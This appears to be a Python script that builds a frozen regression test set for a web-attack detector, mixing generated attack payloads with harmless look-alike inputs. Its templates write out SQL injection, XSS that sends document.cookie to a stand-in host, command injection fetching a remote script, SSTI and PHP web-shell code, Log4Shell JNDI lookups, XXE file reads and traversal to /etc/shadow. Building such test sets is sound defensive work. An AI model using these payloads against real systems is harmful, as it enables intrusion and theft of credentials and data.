"""Writes the frozen regression set: known attacks and harmless look-alikes.

    python notebooks/tools/make_regression_set.py

No training ever sees these rows; a challenger that does worse on them than the champion does not
go live. Its grammars are its own, apart from those of any training data. Deterministic and frozen:
new kinds may be added, rows that stand are not changed.
"""

from __future__ import annotations

import csv
import itertools
import random
from pathlib import Path
from urllib.parse import quote, quote_plus

import regression_requests

SEED = 7
PER_ATTACK = 60
PER_BENIGN = 80
OUT = Path(__file__).resolve().parents[1] / "regression" / "regression.csv"

_SQL_TABLES = ["accounts", "payments", "invoices", "staff", "orders", "members"]
_COLUMNS = ["login", "secret", "card_no", "salary", "phone", "token"]
_SQL = [
    "{n}' OR '{a}'='{a}",
    "{n}' OR {d}={d} -- -",
    "' UNION SELECT {c},{c2} FROM {t}-- ",
    "{n} AND 1=(SELECT COUNT(*) FROM {t})",
    "{n}; DROP TABLE {t};--",
    "{n}') OR ('{a}'='{a}",
    "{n}' AND SLEEP({d})#",
    "{n}; WAITFOR DELAY '0:0:{d}'--",
    "{n}' AND EXTRACTVALUE({d},CONCAT(0x7e,(SELECT {c} FROM {t} LIMIT 1)))-- ",
    '{n}" OR ""="',
    "{n}/**/UNION/**/ALL/**/SELECT/**/NULL,{c}/**/FROM/**/{t}",
    "{n}'||(SELECT {c} FROM {t} WHERE ROWNUM=1)||'",
]
_XSS_CALLS = ["alert({d})", "confirm('{a}')", "fetch('//{h}/'+document.cookie)", "prompt`{d}`"]
_XSS = [
    "<script>{x}</script>",
    '"><script>{x}</script>',
    "<img src=x onerror={x}>",
    "'><svg/onload={x}>",
    "javascript:{x}//",
    "<body onpageshow={x}>",
    '<iframe src="javascript:{x}"></iframe>',
    "</title><script>{x}</script>",
    '" autofocus onfocus={x} x="',
    "<details open ontoggle={x}>",
]
_FILES = [
    "etc/passwd",
    "etc/shadow",
    "windows/win.ini",
    "proc/self/environ",
    "boot.ini",
    "etc/hosts",
]
_UPS = ["../", "..\\", "%2e%2e/", "..%2f", "....//", "..%252f"]
_COMMANDS = [
    "id",
    "cat /etc/passwd",
    "whoami",
    "uname -a",
    "ping -c 3 {h}",
    "curl http://{h}/s.sh",
    "ls -la /",
]
_SEPARATORS = ["; ", "| ", "&& ", "$(", "`", "\n", "|| "]
_TEMPLATES = [
    "{{{{{d}*{d}}}}}",
    "${{{d}*{d}}}",
    "<%= {d}*{d} %>",
    "#{{{d}*{d}}}",
    "{{{{config.__class__.__init__.__globals__['os'].popen('{m}').read()}}}}",
    "{{{{''.__class__.__mro__[1].__subclasses__()}}}}",
    '{a} ${{T(java.lang.Runtime).getRuntime().exec("{m}")}}',
]
_LOOKUPS = [
    "${{jndi:ldap://{h}/{a}}}",
    "${{jndi:rmi://{h}:1099/{a}}}",
    "${{jndi:dns://{h}/{a}}}",
    "${{${{lower:j}}ndi:ldap://{h}/{a}}}",
    "${{${{::-j}}${{::-n}}di:ldap://{h}/${{env:USER}}}}",
]
_XXE = [
    '<?xml version="1.0"?><!DOCTYPE {a} [<!ENTITY {b} SYSTEM "file:///{f}">]><{a}>&{b};</{a}>',
    '<!DOCTYPE {a} SYSTEM "http://{h}/{b}.dtd"><{a}/>',
    '<!DOCTYPE {a} [<!ENTITY % {b} SYSTEM "http://{h}/x"> %{b};]><{a}>1</{a}>',
]
_NOSQL = [
    '{{"{a}": {{"$ne": null}}, "{b}": {{"$gt": ""}}}}',
    '{{"$where": "this.{a} == this.{b}"}}',
    "'; return this.{a} == '{b}'; var x='",
    '{{"{a}": {{"$regex": "^{b}.*"}}}}',
]
_PHP = [
    "php://filter/convert.base64-encode/resource={a}.php",
    "<?php system('{m}'); ?>",
    "<?php eval($_POST['{a}']); ?>",
    "<?={m}?><?php passthru($_GET[{a}]);",
]
_PROSE = """Could you {a} my {b} by Friday? It's urgent & I'm travelling.
The {a} isn't working; I've tried the {b} (twice) - still "{c}".
{a}, {b} and {c}: 3 for 2 until 30/06 - don't miss it!
I'd select the {a} over the {b}, where possible.
Total: £{d}.50 (excl. {a}) // paid by card
{a} > {b} = {c}? Not sure; see note #{d}.
Drop the {a} at the back door & text me: 07700 900{d}
"It's {a} o'clock," she said; 'we union members update the {b}.'""".splitlines()
_NOUNS = [
    "parcel",
    "invoice",
    "kettle",
    "bicycle",
    "ladder",
    "concert",
    "ticket",
    "jacket",
    "lamp",
    "carpet",
    "teapot",
    "printer",
    "mirror",
    "violin",
    "basket",
    "engine",
    "window",
    "script",
    "group",
    "order",
]
_MARKUP = [
    "<p>{a} and {b}</p>",
    '<a href="/{a}/{b}">{c}</a>',
    "<b>{a}</b><br>{b}",
    '<span class="{a}-{b}">{c}</span>',
    "# {a}\n\n- {b}\n- **{c}**",
    "`{a}({b})` returns {c}",
]
_AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:{d}.0) Gecko/20100101 Firefox/{d}.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_{d}) AppleWebKit/605.1.15 Version/17.1 Safari",
    "PostmanRuntime/7.{d}.0",
    "curl/8.{d}.0",
    "Slackbot-LinkExpanding 1.{d} (+https://api.slack.com/robots)",
]
_URLS = [
    "/{a}/{b}/{d}?page={d}&sort={c}",
    "/{a}-{b}-{d}.html",
    "/static/{a}.min.js?v={d}",
    "/search?q={a}+{b}&in={c}",
    "/api/v2/{a}s/{d}/{b}s?limit={d}",
]
_PEOPLE = [
    "Siobhán O'{a}",
    "d'{a}, {b}",
    "{a}.{b}+{c}@example.org",
    "{d} St. {a}'s Road, {b}",
]
_JSON = ['{{"{a}": "{b} {c}", "count": {d}, "items": [{{"sku": "{a}-{d}"}}], "gift": true}}']


class Grammar:
    """Fills the patterns above from one random source."""

    def __init__(self, seed: int) -> None:
        self.random = random.Random(seed)

    def attack(self, patterns: list[str]) -> str:
        source = self.random

        def word() -> str:
            return "".join(
                source.choices("abcdefghijklmnopqrstuvwxyz", k=source.choice([2, 3, 5, 7]))
            )

        host = f"{word()}.{source.choice(['test', 'example', 'invalid'])}"
        return source.choice(patterns).format(
            a=word(),
            b=word(),
            c=source.choice(_COLUMNS),
            c2=source.choice(_COLUMNS),
            d=source.randint(12, 97),
            f=source.choice(_FILES),
            h=host,
            m=source.choice(_COMMANDS).format(h=host),
            n=source.randint(1, 9999),
            t=source.choice(_SQL_TABLES),
        )

    def harmless(self, patterns: list[str]) -> str:
        a, b, c = self.random.sample(_NOUNS, 3)
        return self.random.choice(patterns).format(a=a, b=b, c=c, d=self.random.randint(10, 999))

    def sqli(self) -> str:
        return self.attack(_SQL)

    def xss(self) -> str:
        return self.random.choice(_XSS).format(x=self.attack(_XSS_CALLS))

    def traversal(self) -> str:
        word = self.random.choice(_NOUNS)
        return f"{word}/{self.random.choice(_UPS) * self.random.randint(3, 8)}" + (
            self.random.choice(_FILES)
        )

    def cmdi(self) -> str:
        separator, command = self.random.choice(_SEPARATORS), self.attack(_COMMANDS)
        close = {"$(": ")", "`": "`"}.get(separator, "")
        return f"{self.random.choice(_NOUNS)}{separator}{command}{close}"

    def ssti(self) -> str:
        return self.attack(_TEMPLATES)

    def log4shell(self) -> str:
        return self.attack(_LOOKUPS)

    def xxe(self) -> str:
        return self.attack(_XXE)

    def nosql(self) -> str:
        return self.attack(_NOSQL)

    def php(self) -> str:
        return self.attack(_PHP)

    def prose(self) -> str:
        return self.harmless(_PROSE)

    def markup(self) -> str:
        return self.harmless(_MARKUP)

    def agent(self) -> str:
        return self.harmless(_AGENTS)

    def json(self) -> str:
        return self.harmless(_JSON)

    def url(self) -> str:
        return self.harmless(_URLS)

    def person(self) -> str:
        return self.harmless(_PEOPLE).title()

    def token(self) -> str:
        source = self.random

        def run(alphabet: str, size: int) -> str:
            return "".join(source.choices(alphabet, k=size))

        return source.choice(
            [
                run("0123456789abcdef", 32),
                ".".join(run("abcdefXYZ0189-_", size) for size in (18, 40, 27)),
                f"{source.randint(10**8, 10**9)}.{source.randint(10**9, 10**10)}",
            ]
        )


def carried(grammar: Grammar, value: str, turn: int) -> tuple[str, bool]:
    """The value bare, in a URL, in a form or in JSON, by turn; and whether that is a URL's row."""
    noun = grammar.random.choice(_NOUNS)
    name = grammar.random.choice(["q", "id", "name", "file", "next", "comment", "ref"])
    head = f"POST /{noun} HTTP/1.1\nHost: www.example.org\nContent-Type: "
    if turn == 0:
        return value, False
    if turn == 1:
        return f"/{noun}?{name}={quote(value)}&v=2", True
    if turn == 2:
        form = f"{name}={quote_plus(value)}&submit=Save"
        return f"{head}application/x-www-form-urlencoded\n\n{form}", True
    escaped = value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    return f'{head}application/json\n\n{{"{name}": "{escaped}", "lang": "en"}}', True


def rows() -> list[tuple[str, int, str, str]]:
    """`payload, label, is_url, kind`; no payload twice."""
    grammar = Grammar(SEED)
    attacks = [
        grammar.sqli,
        grammar.xss,
        grammar.traversal,
        grammar.cmdi,
        grammar.ssti,
        grammar.log4shell,
        grammar.xxe,
        grammar.nosql,
        grammar.php,
    ]
    harmless = [
        grammar.prose,
        grammar.markup,
        grammar.agent,
        grammar.token,
        grammar.json,
        grammar.person,
        grammar.url,
    ]
    made: dict[str, tuple[str, int, str, str]] = {}
    kinds = [(make, 1, PER_ATTACK) for make in attacks]
    kinds += [(make, 0, PER_BENIGN) for make in harmless]
    for make, label, wanted in kinds:
        is_whole_url = make == grammar.url
        turns = itertools.cycle([0] if is_whole_url else range(4))
        until = len(made) + wanted
        while len(made) < until:
            payload, is_url = carried(grammar, make(), next(turns))
            flag = str(is_url or is_whole_url).upper()
            made.setdefault(payload, (payload, label, flag, make.__name__))
    return list(made.values())


def main() -> None:
    """Writes the file."""
    OUT.parent.mkdir(exist_ok=True)
    with OUT.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, lineterminator="\n")
        writer.writerow(["payload", "label", "is_url", "kind"])
        writer.writerows(rows() + regression_requests.rows())


if __name__ == "__main__":
    main()
